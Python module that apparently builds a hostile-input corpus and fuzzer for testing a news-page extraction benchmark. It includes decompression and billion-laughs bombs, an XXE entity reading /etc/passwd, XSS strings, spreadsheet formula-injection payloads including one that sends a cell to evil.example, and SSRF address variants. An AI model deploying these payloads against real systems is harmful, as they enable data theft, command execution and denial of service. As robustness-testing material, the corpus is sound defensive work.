"""Hostile inputs for the reliability benchmark: a fixed corpus and seeded mutations.

Everything here is built in code: invented articles, the classic attacks (bombs, XXE,
billion laughs, XSS strings, SSRF address forms, spreadsheet formulas), damaged
encodings, binaries, deep and huge markup, damaged WARC files. ``mutate`` turns any
page into a damaged variant (byte flips, cuts, splices, injected markup and characters,
re-encodings), so real pages passed on the command line become fuzzing seeds without
any of them entering the repository.
"""

from __future__ import annotations

import gzip
import io
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape

__all__ = [
    "FORMULAS",
    "SSRF_HOSTS",
    "XSS",
    "Input",
    "article_html",
    "article_text",
    "hostile_corpus",
    "invented_articles",
    "mutate",
    "warc_bytes",
]


@dataclass(frozen=True, slots=True)
class Input:
    """One generated input: a file name (its suffix matters) and its bytes."""

    name: str
    content: bytes
    kind: str


XSS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    "</textarea><script>fetch('//evil')</script>",
    "{{7*7}} {% raw %}${7*7}",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
)
# Each names the loopback or a private address in a form a naive check misses.
SSRF_HOSTS = (
    "127.0.0.1",
    "127.1",
    "0177.0.0.1",
    "0x7f000001",
    "2130706433",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[0:0:0:0:0:ffff:7f00:1]",
    "localhost",
    "localhost.",
    "LOCALHOST",
    "0.0.0.0",
    "0",
    "10.0.0.1",
    "192.168.1.1",
    "172.16.0.1",
    "169.254.169.254",
    "100.64.0.1",
    "[fe80::1]",
    "[fc00::1]",
    "127.0.0.1.nip.io",
)

_PEOPLE = ("Mara Voss", "Tomas Arkell", "Ilse Brandt", "Jon Okafor", "Dana Reyes", "Petra Lind")
_ORGS = ("the harbour authority", "the city council", "the ministry", "the union", "police")
_TOPICS = (
    ("breakwater", "repairs to the northern breakwater would take until spring"),
    ("library", "the reading room would open longer on weekdays"),
    ("ferry", "the night ferry would run again from Monday"),
    ("budget", "the budget had been cut by four million euros"),
    ("strike", "the strike would end if wages rose by six percent"),
    ("bridge", "the bridge had passed its safety inspection"),
)


def invented_articles(count: int, rng: random.Random) -> list[tuple[str, list[str]]]:
    """Return ``count`` invented articles (title, paragraphs), each with attributions."""
    articles = []
    for number in range(count):
        topic, claim = rng.choice(_TOPICS)
        person, other = rng.sample(_PEOPLE, 2)
        org = rng.choice(_ORGS)
        paragraphs = [
            f"{person}, who speaks for {org}, said on Tuesday that {claim}, in a statement "
            f"issued after talks that ran late into the night (report {number}).",
            f'"We have done what we promised," {person} told reporters. "Nobody should '
            f'doubt that the {topic} work is on schedule," {person.split()[0]} added.',
            f"{other} rejected that account, calling it misleading, and said the figures "
            f"released by {org} last week did not add up.",
            f"According to {org}, {rng.randint(2, 900)} people were affected, while "
            f"{other} put the number at {rng.randint(2, 900)}, Harbour Radio reported.",
        ]
        rng.shuffle(paragraphs[1:])
        articles.append((f"{topic.title()} row deepens ({number})", paragraphs))
    return articles


def _day(title: str) -> str:
    return f"2026-03-{len(title) % 28 + 1:02d}"


def article_html(
    title: str, paragraphs: list[str], *, extra: str = "", charset: str = "utf-8"
) -> str:
    """Return a news page of realistic shape around an article."""
    body = "\n".join(f"<p>{escape(p)}</p>" for p in paragraphs)
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="{charset}">'
        f"<title>{escape(title)}</title>"
        f'<meta property="og:site_name" content="Ellery Courier">'
        f'<meta property="article:published_time" content="{_day(title)}T08:00:00Z">'
        f"</head><body><nav><a href='/'>Home</a> <a href='/world'>World</a></nav>"
        f"<article><h1>{escape(title)}</h1>{body}{extra}</article>"
        f"<footer>Follow us on Twitter. (c) Ellery Courier</footer></body></html>"
    )


def article_text(title: str, paragraphs: list[str]) -> str:
    """Return the article as flattened text, the way a scraper writes it."""
    return "\n\n".join([title, *paragraphs, "Related Articles", "Leave a Reply"]) + "\n"


def _gzip_bomb(mebibytes: int) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=9) as out:
        chunk = b"\0" * (1 << 20)
        for _ in range(mebibytes):
            out.write(chunk)
    return buffer.getvalue()


def _deep(depth: int, tag: str = "div") -> str:
    return f"<{tag}>" * depth + "deep" + f"</{tag}>" * depth


_BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + ']><rss version="2.0"><channel><title>&lol9;</title>'
    "<item><link>https://example.org/a</link></item></channel></rss>"
)
_XXE = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<rss version="2.0"><channel><title>&xxe;</title>'
    "<item><title>&xxe;</title><link>https://example.org/a</link></item></channel></rss>"
)


def _feed(links: list[str], *, prolog: str = "") -> str:
    items = "".join(f"<item><title>x</title><link>{escape(link)}</link></item>" for link in links)
    channel = f"<channel><title>t</title>{items}</channel>"
    return f'<?xml version="1.0"?>{prolog}<rss version="2.0">{channel}</rss>'


def warc_bytes(pages: list[bytes], *, gzipped: bool) -> bytes:
    """Return a WARC file with one HTML response record per page (warcio's writer)."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buffer = io.BytesIO()
    writer = WARCWriter(buffer, gzip=gzipped)
    for number, page in enumerate(pages):
        headers = StatusAndHeaders(
            "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
        )
        record = writer.create_warc_record(
            f"https://news.example/{number}",
            "response",
            payload=io.BytesIO(page),
            http_headers=headers,
        )
        writer.write_record(record)
    return buffer.getvalue()


def _damaged(data: bytes, rng: random.Random, *, at: float) -> bytes:
    """Return ``data`` with a run of bytes overwritten near the fraction ``at``."""
    spot = int(len(data) * at)
    noise = bytes(rng.randrange(256) for _ in range(64))
    return data[:spot] + noise + data[spot + 64 :]


def hostile_corpus(rng: random.Random) -> list[Input]:
    """Return the fixed hostile corpus: every attack class once or a few times."""
    title, paragraphs = invented_articles(1, rng)[0]
    page = article_html(title, paragraphs)
    good = page.encode()
    records = [article_html(t, p).encode() for t, p in invented_articles(30, rng)]
    inputs = [
        # encodings
        Input("utf16-nobom.html", page.encode("utf-16-le"), "encoding"),
        Input("utf16-bom.html", page.encode("utf-16"), "encoding"),
        Input("bad-utf8.html", good.replace(b"said", b"sa\xc3\x28id\xff\xfe"), "encoding"),
        Input(
            "wrong-charset.html",
            page.replace("utf-8", "shift_jis").encode("cp1252", "replace"),
            "encoding",
        ),
        Input("ebcdic.txt", article_text(title, paragraphs).encode("cp500"), "encoding"),
        Input(
            "latin1-as-utf8.txt",
            "Caf\u00e9 cr\u00e8me, said M\u00fcller.".encode("latin-1") * 20,
            "encoding",
        ),
        Input(
            "bom-crlf.txt",
            b"\xef\xbb\xbf" + article_text(title, paragraphs).replace("\n", "\r\n").encode(),
            "encoding",
        ),
        # binaries and empties
        Input(
            "photo.png",
            b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(2000)),
            "binary",
        ),
        Input(
            "photo.html",
            b"\xff\xd8\xff\xe0" + bytes(rng.randrange(256) for _ in range(2000)),
            "binary",
        ),
        Input("doc.pdf", b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(2000)), "binary"),
        Input("prog.html", b"\x7fELF\x02\x01\x01" + bytes(2000), "binary"),
        Input(
            "archive.txt", b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(2000)), "binary"
        ),
        Input("random.bin", bytes(rng.randrange(256) for _ in range(5000)), "binary"),
        Input("nul-text.txt", b"said\0the\0minister " * 200, "binary"),
        Input("empty.html", b"", "empty"),
        Input("blank.txt", b" \n\t\r\n " * 100, "empty"),
        Input("tags-only.html", b"<html><head></head><body><div></div></body></html>", "empty"),
        # bombs
        Input("bomb.html.gz", _gzip_bomb(200), "bomb"),
        Input("nested.html.gz", gzip.compress(gzip.compress(good)), "bomb"),
        Input("laughs.xml", _BILLION_LAUGHS.encode(), "bomb"),
        Input("xxe.rss", _XXE.encode(), "bomb"),
        # deep and huge
        Input(
            "deep-260.html",
            article_html(title, paragraphs, extra=_deep(260, "aside")).encode(),
            "deep",
        ),
        Input(
            "deep-5000.html", article_html(title, paragraphs, extra=_deep(5000)).encode(), "deep"
        ),
        Input("deep-first.html", (_deep(3000, "div") + page).encode(), "deep"),
        Input("huge-text.txt", ("\n\n".join(paragraphs * 2500)).encode(), "huge"),
        Input(
            "huge-attr.html",
            page.replace("<article>", f"<article data-x='{'a' * 3_000_000}'>").encode(),
            "huge",
        ),
        Input(
            "many-tags.html",
            article_html(title, paragraphs, extra="<b>x</b>" * 200_000).encode(),
            "huge",
        ),
        # hostile text
        Input(
            "xss.html",
            article_html(title, [*paragraphs, *(f"{x} said the official." for x in XSS)]).encode(),
            "xss",
        ),
        Input("xss-title.html", article_html(XSS[0] + XSS[1], paragraphs).encode(), "xss"),
        Input(
            "formula.html",
            article_html(
                FORMULAS[0], [f'{f} said "{f}" on Monday.' for f in FORMULAS] + paragraphs
            ).encode(),
            "formula",
        ),
        Input("emoji.txt", ("\U0001f600 " + article_text(title, paragraphs)).encode(), "text"),
        Input(
            "rtl-controls.txt",
            ("\u202e\u2066" + article_text(title, paragraphs) + "\u200b\ufeff\u0301").encode(),
            "text",
        ),
        Input(
            "controls.txt",
            (
                "".join(chr(c) for c in range(1, 32) if c not in (10, 13))
                + article_text(title, paragraphs)
            ).encode(),
            "text",
        ),
        # feeds
        Input(
            "prolog-4k.rss",
            _feed(["https://example.org/a"], prolog="<!--" + "x" * 4096 + "-->").encode(),
            "feed",
        ),
        Input(
            "doctype-40k.xml",
            _feed(
                ["https://example.org/b"], prolog="<!DOCTYPE rss [" + "<!-- c -->" * 4000 + "]>"
            ).encode(),
            "feed",
        ),
        Input(
            "private-links.rss",
            _feed(
                [f"http://{h}/" for h in SSRF_HOSTS] + ["file:///etc/passwd", "gopher://x/"]
            ).encode(),
            "feed",
        ),
        Input(
            "broken.rss",
            b'<?xml version="1.0"?><rss version="2.0"><channel><item><link>https://',
            "feed",
        ),
        # WARC
        Input("ok.warc.gz", warc_bytes(records[:10], gzipped=True), "warc"),
        Input(
            "mid-damage.warc.gz", _damaged(warc_bytes(records, gzipped=True), rng, at=0.5), "warc"
        ),
        Input(
            "start-damage.warc.gz",
            _damaged(warc_bytes(records, gzipped=True), rng, at=0.02),
            "warc",
        ),
        Input("mid-damage.warc", _damaged(warc_bytes(records, gzipped=False), rng, at=0.5), "warc"),
        Input("truncated.warc.gz", warc_bytes(records, gzipped=True)[:-700], "warc"),
        Input("text-named.warc", article_text(title, paragraphs).encode(), "warc"),
        Input("empty.warc.gz", b"", "warc"),
    ]
    return inputs


_INJECT = (
    "<",
    ">",
    "&",
    "&#0;",
    "&#xD800;",
    "&nbsp;",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<script>",
    "</p>",
    "<p",
    "\0",
    "\ufeff",
    "\u202e",
    "\u0301" * 50,
    "\U0001f600",
    "\r",
    "\x1b[31m",
    '"',
    "\u201c",
    "\u201d",
    "said",
    ":",
    "according to",
    "\ud7ff",
    "\U000e0041",
    "<div>" * 300,
    "</div>" * 300,
    "<meta charset='utf-16'>",
    "<title>",
    "<html>",
    "\n" * 50,
)


def _flip(data: bytes, rng: random.Random) -> bytes:
    buffer = bytearray(data)
    for _ in range(rng.randint(1, 20)):
        buffer[rng.randrange(len(buffer))] = rng.randrange(256)
    return bytes(buffer)


def _cut(data: bytes, rng: random.Random) -> bytes:
    return data[: rng.randrange(len(data))]


def _drop(data: bytes, rng: random.Random) -> bytes:
    start = rng.randrange(len(data))
    return data[:start] + data[start + rng.randint(1, 2000) :]


def _repeat(data: bytes, rng: random.Random) -> bytes:
    start = rng.randrange(len(data))
    chunk = data[start : start + rng.randint(1, 500)]
    return data[:start] + chunk * rng.randint(2, 50) + data[start:]


def _inject(data: bytes, rng: random.Random) -> bytes:
    for _ in range(rng.randint(1, 8)):
        spot = rng.randrange(len(data) + 1)
        piece = rng.choice(_INJECT).encode("utf-8", "surrogatepass")
        data = data[:spot] + piece + data[spot:]
    return data


def _reencode(data: bytes, rng: random.Random) -> bytes:
    text = data.decode("utf-8", "replace")
    codec = rng.choice(
        ("utf-16", "utf-16-be", "utf-32", "cp1252", "latin-1", "shift_jis", "koi8-r")
    )
    return text.encode(codec, "replace")


def _shuffle_lines(data: bytes, rng: random.Random) -> bytes:
    lines = data.split(b"\n")
    rng.shuffle(lines)
    return b"\n".join(lines)


_MUTATIONS: tuple[Callable[[bytes, random.Random], bytes], ...] = (
    _flip,
    _cut,
    _drop,
    _repeat,
    _inject,
    _inject,
    _reencode,
    _shuffle_lines,
)


def mutate(data: bytes, rng: random.Random, *, splice: bytes | None = None) -> bytes:
    """Return a damaged variant of ``data``: one to three mutations, or a splice."""
    if not data:
        return bytes(rng.randrange(256) for _ in range(rng.randint(0, 64)))
    if splice and rng.random() < 0.15:
        return data[: rng.randrange(len(data))] + splice[rng.randrange(len(splice)) :]
    for _ in range(rng.randint(1, 3)):
        data = rng.choice(_MUTATIONS)(data, rng) or b" "
    return data


def fuzz_inputs(count: int, seeds: list[bytes], rng: random.Random) -> Iterator[Input]:
    """Yield ``count`` fuzzed inputs: mutated seeds, as HTML or as flattened text."""
    for number in range(count):
        seed = rng.choice(seeds)
        other = rng.choice(seeds)
        data = mutate(seed, rng, splice=other)
        suffix = ".html" if data.lstrip()[:1] == b"<" or rng.random() < 0.5 else ".txt"
        yield Input(f"fuzz-{number:05d}{suffix}", data, "fuzz")
